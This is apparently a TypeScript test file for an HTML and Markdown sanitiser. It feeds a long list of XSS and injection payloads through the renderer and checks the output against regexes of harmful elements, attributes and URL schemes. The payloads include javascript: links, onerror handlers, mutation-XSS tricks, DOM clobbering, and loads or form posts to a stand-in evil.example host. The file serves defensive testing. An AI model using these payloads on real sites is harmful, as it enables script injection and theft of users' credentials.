import fc from 'fast-check'
import type { Element, Nodes, Root } from 'hast'
import { htmlToHast } from 'satteri'
import { describe, expect, it } from 'vitest'
import { render, renderHtml } from './testing/render.ts'

/** Ways to run script, to cover the page, to steal what is typed, or to take the place of what the page needs. */
const tricks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script\n>alert(1)</script\n>',
  'text <script>alert(1)</script> text',
  '<<script>alert(1);//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"',
  '<img/src=x/onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<img srcset="javascript:alert(1) 1x">',
  '<img src=x style="behavior:url(x)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"></use></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style><img title="</style><img src=x onerror=alert(1)>"></style>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<template><script>alert(1)</script></template>',
  '<body onload=alert(1)>',
  '<html onmouseover=alert(1)>',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<details ontoggle=alert(1) open>x</details>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<audio src="javascript:alert(1)" autoplay onplay=alert(1)>',
  '<video poster="javascript:alert(1)"></video>',
  '<input autofocus onfocus=alert(1)>',
  '<input type=image src=x onerror=alert(1)>',
  '<input type=checkbox disabled onclick=alert(1) form=x name=y>',
  '<select autofocus onfocus=alert(1)></select>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<form action="https://evil.example/"><input name=password></form>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href=" &#1; javascript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://example.com/x">x</a>',
  '<a href="x" target="opener" rel="opener" ping="https://evil.example">x</a>',
  '<a href="https://evil.example" target="_blank" rel="opener">x</a>',
  '<p style="position:fixed;inset:0">x</p>',
  '<td style="text-align: left; position: fixed">x</td>',
  '<img name="getElementById" src="x">',
  '<form id="document" name="cookie"></form>',
  '<a id="site:content" name="location">x</a>',
  '<p id="a b" id="c">x</p>',
  '<div slot="x" is="x-y" part="p" exportparts="q" nonce="r" contenteditable tabindex=5 accesskey=x popover draggable>x</div>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<plaintext>',
  '<!-- <script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?><script>alert(1)</script>',
  '<!DOCTYPE html [<!ENTITY x "y">]>',
  '[x](javascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](JAVASCRIPT&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](y)',
  '![x](y "t\\"onerror=\\"alert(1)")',
  '[x]: javascript:alert(1)\n\n[x]',
  '# <img src=x onerror=alert(1)>',
  '# "><script>alert(1)</script>',
  '```"><script>alert(1)</script>\nx\n```',
  '```ts title="\\"><script>alert(1)</script>"\n</code></pre><script>alert(1)</script>\n```',
  "```ts {1} title='\"><img src=x onerror=alert(1)>'\nx\n```",
  '$\\text{<img src=x onerror=alert(1)>}$',
  '$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$',
  '$\\style{position:fixed}{x} \\class{x}{y} \\htmlId{x}{y}$',
  '$</math><script>alert(1)</script>$',
  'a[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
  '> [!NOTE]\n> <script>alert(1)</script>',
  '| <img src=x onerror=alert(1)> |\n|-|\n| <a href="javascript:alert(1)">x</a> |',
  '<!--line 5--><b data-source-line="x" data-source-meta="y">z</b>',
]

describe('sanitise', () => {
  it.each(tricks)('takes the harm out of %j', async (trick) => {
    expectHarmless(await renderHtml(trick))
    expectHarmless((await render(`before\n\n${trick}\n\nafter`)).excerptHtml)
  })

  it('takes the harm out of tricks put together in any way', async () => {
    const pieces = fc.array(
      fc.oneof(
        fc.constantFrom(...tricks),
        fc.constantFrom('\n', '\n\n', ' ', '"', '>', '<', '`', '| ', '> ', '- '),
        fc.string(),
      ),
      {
        maxLength: 8,
      },
    )
    await fc.assert(
      fc.asyncProperty(pieces, async (all) => expectHarmless(await renderHtml(all.join('')))),
      { numRuns: 400 },
    )
  })

  it('goes on after what would swallow the rest of the page', async () => {
    for (const opener of [
      '<script>',
      '<style>',
      '<textarea>',
      '<title>',
      '<xmp>',
      '<plaintext>',
      '<iframe>',
      '<!-- x',
    ]) {
      const html = await renderHtml(`a <b>${opener}</b> z[^1]\n\nlast\n\n[^1]: note`)
      expect(html).toContain('last')
      expect(html).toContain('class="footnotes"')
    }
  })

  it('keeps what is allowed as it was written', async () => {
    const html =
      '<section class="mine" lang="ja" dir="ltr" title="t"><abbr title="x">a</abbr> <ruby>漢<rt>kan</rt></ruby> ' +
      '<time datetime="2026-01-01">b</time> <sub>c</sub><sup>d</sup><del>e</del></section>'
    expect(await renderHtml(html)).toBe(html)
  })

  it('leaves the words of elements that are not allowed, unless they were never words', async () => {
    const { html, problems } = await render('<center><font color="red">a</font></center>\n\n<script>b</script>c')
    expect(html).toContain('a')
    expect(html).not.toContain('b</')
    expect(problems.map(({ message }) => message)).toEqual([
      '<center> is not allowed here and was removed',
      '<font> is not allowed here and was removed',
      '<script> is not allowed here and was removed',
    ])
  })

  it('tells of an address in one line, whatever is in it', async () => {
    const { problems } = await render('<a href="java&#x0A;script:alert(1)">x</a>')
    expect(problems.map(({ message }) => message)).toEqual([
      'the address "java\\nscript:alert(1)" of <a> is not allowed here and was removed',
    ])
  })

  it('prefixes ids, once, and lets links find them', async () => {
    const html = await renderHtml(
      '<p id="a">x</p>\n\n<p id="a">y</p>\n\n[to a](#a) [to 日本](#日本) <b id="日本">z</b>',
    )
    expect(html.match(/id="[^"]*"/g)).toEqual(['id="user-content-a"', 'id="user-content-日本"'])
    expect(html.match(/href="[^"]*"/g)).toEqual(['href="#user-content-a"', 'href="#user-content-日本"'])
  })

  it('spells the alignment of cells as classes', async () => {
    expect(
      await renderHtml('<table><tr><td style="text-align: right">a</td><td align="center">b</td></tr></table>'),
    ).toContain('<td class="align-right">a</td><td class="align-center">b</td>')
  })
})

/** Written apart from the list of what is allowed, so that a mistake there shows here. */
function expectHarmless(html: string): void {
  const tree = htmlToHast(html, { fragment: true }) as Root
  const seen: string[] = []
  inspect(tree, seen)
  expect(seen, html).toEqual([])
}

const harmfulElement =
  /^(script|style|iframe|frame|frameset|object|embed|applet|base|meta|link|template|form|button|select|textarea|svg|noscript|noembed|xmp|plaintext|title|marquee|slot|portal|dialog|body|html|head)$/
const harmfulAttribute =
  /^(on.*|style|srcdoc|formaction|action|name|form|nonce|is|slot|ping|http.*|autofocus|autoplay|contenteditable|popover|accesskey)$/i
const addressAttribute = /^(href|src|poster|cite|data|xlinkHref|srcSet)$/
const harmfulAddress = /^[a-z0-9+.-]*(script|data|blob|file|filesystem):/i

function inspect(node: Nodes, seen: string[]): void {
  if (node.type === 'comment') seen.push('comment')
  if (node.type === 'element') seen.push(...harmsOf(node))
  if ('children' in node) for (const child of node.children) inspect(child, seen)
}

function harmsOf({ tagName, properties }: Element): string[] {
  const seen: string[] = []
  if (harmfulElement.test(tagName)) seen.push(tagName)
  if (tagName === 'input' && (properties.type !== 'checkbox' || properties.disabled !== true)) seen.push('input')
  for (const [name, value] of Object.entries(properties)) {
    const isFormOfOperator = tagName === 'mo' && name === 'form'
    if (harmfulAttribute.test(name) && !isFormOfOperator) seen.push(`${tagName} ${name}`)
    // As browsers do before they look for a protocol.
    const address = String(value).replace(/[\0-\x20]/g, '')
    if (addressAttribute.test(name) && harmfulAddress.test(address)) seen.push(`${tagName} ${name}=${value}`)
    if (name === 'id' && String(value).startsWith('site:')) seen.push(`id ${value}`)
  }
  if (properties.target === '_blank' && !String(properties.rel).includes('noopener')) seen.push('opener')
  return seen
}
